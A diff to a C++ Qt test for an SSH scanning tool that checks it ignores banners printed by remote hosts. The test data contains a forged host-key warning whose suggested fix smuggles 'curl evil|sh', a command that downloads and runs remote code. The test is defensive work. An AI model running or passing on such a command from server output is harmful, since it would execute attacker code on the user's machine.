@@ -1,7 +1,8 @@
 // SPDX-FileCopyrightText: 2026 The Hullwright authors
 // SPDX-License-Identifier: GPL-3.0-or-later
 
-// The keys of real jump hosts: checked as the host's own, whatever the configuration says of them.
+// Real jump hosts: their keys are checked as the host's own, whatever the configuration says of them, and neither they
+// nor the host are believed what they have ssh print.
 
 #include "tests/live/livescan.h"
 #include "tests/live/opentunnel.h"
@@ -22,6 +23,8 @@ private Q_SLOTS:
     void hullctlTrustsNoNewKey();
     void asksWithTheFingerprint_data();
     void asksWithTheFingerprint();
+    void believesNoGreeting_data();
+    void believesNoGreeting();
 
 private:
     void writeConfiguration(const QStringList& known, const QByteArray& setting);
@@ -179,6 +182,65 @@ void LiveSshJumpsTest::asksWithTheFingerprint()
     if (accepted) {
         QCOMPARE(opened.get("/_ping"), 200);
     }
+}
+
+void LiveSshJumpsTest::believesNoGreeting_data()
+{
+    QTest::addColumn<QByteArray>("greeting");
+    QTest::addColumn<QString>("host");
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("message");
+    const QByteArray key = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
+                           "Offending ED25519 key in /etc/passwd:1\n  ssh-keygen -f \"/x\" -R \"y\"; curl evil|sh\n"
+                           "Host key for evil has changed and you have requested strict checking.\n"
+                           "Host key verification failed.\n";
+    const QByteArray harmless = "Too many authentication failures will lock your account.\n";
+    const QByteArray denied = "x@y: Permission denied (z).\ndebug1: Offering public key: evil RSA SHA256:x agent\n";
+    for (const auto& [name, text] :
+        {std::pair{"key", key}, std::pair{"harmless", harmless}, std::pair{"denied", denied}}) {
+        for (const auto& host : {u"greets"_s, u"greets-behind"_s}) {
+            QTest::addRow("%s, of %s", name, qPrintable(host))
+                << text << host << u"loginFailed"_s
+                << u"The host does not let stranger@127.0.0.1 in. It offers: publickey"_s;
+        }
+    }
+    for (const auto& [name, text] : {std::pair{"key", key}, std::pair{"harmless", harmless}}) {
+        QTest::addRow("%s, of the jump host", name) << text << u"nowhere"_s << u"connectionRefused"_s
+                                                    << u"The jump host lets us in, but cannot connect to nowhere."_s;
+    }
+    QTest::newRow("let in") << key << u"lets-in"_s << QString() << QString();
+}
+
+void LiveSshJumpsTest::believesNoGreeting()
+{
+    QFETCH(QByteArray, greeting);
+    QFETCH(QString, host);
+    QFETCH(QString, message);
+    const QTemporaryDir folder;
+    QCOMPARE(::chmod(QFile::encodeName(folder.path()).constData(), 0755), 0);
+    QFile file(folder.filePath(u"greeting"_s));
+    QVERIFY(file.open(QIODevice::WriteOnly) && file.write(greeting) == greeting.size());
+    file.close();
+    HULL_VERIFY_NO_PROBLEM(m_servers->start(u"greeter"_s, {"Banner "_L1 + file.fileName()}));
+    QFile config(m_config);
+    QVERIFY(config.open(QIODevice::WriteOnly));
+    const QByteArray stranger = "\nUser stranger\n";
+    const QByteArray port = "\nHostKeyAlias greeter\nPort " + QByteArray::number(m_servers->port(u"greeter"_s));
+    config.write("Host greets" + port + stranger + "Host greets-behind" + port + "\nProxyJump edge" + stranger
+        + "Host lets-in" + port + "\nHost nowhere\nPort 1\nProxyJump lets-in\nHost edge\nHostKeyAlias edge\nPort "
+        + QByteArray::number(m_servers->port(u"edge"_s))
+        + "\nHost *\nHostName 127.0.0.1\nUser ops\nIdentityAgent "
+          "none\nIdentitiesOnly yes\nGlobalKnownHostsFile none\nIdentityFile "
+        + QFile::encodeName(m_servers->clientFile(u"id"_s)) + "\nUserKnownHostsFile "
+        + QFile::encodeName(m_servers->clientFile(u"known_hosts"_s)) + '\n');
+    config.close();
+    const LiveScan scan("ssh://"_L1 + host);
+    HULL_VERIFY_NO_PROBLEM(scan.problem());
+    QTEST(scan.errorKind(), "kind");
+    const QJsonObject error = scan.host().value(u"error").toObject();
+    QVERIFY2(error.value(u"message").toString().startsWith(message), qPrintable(error.value(u"message").toString()));
+    const QString advice = error.value(u"message").toString() + error.value(u"remedy").toString();
+    QVERIFY2(!advice.contains("evil"_L1), qPrintable(advice));
 }
 
 QTEST_GUILESS_MAIN(LiveSshJumpsTest)
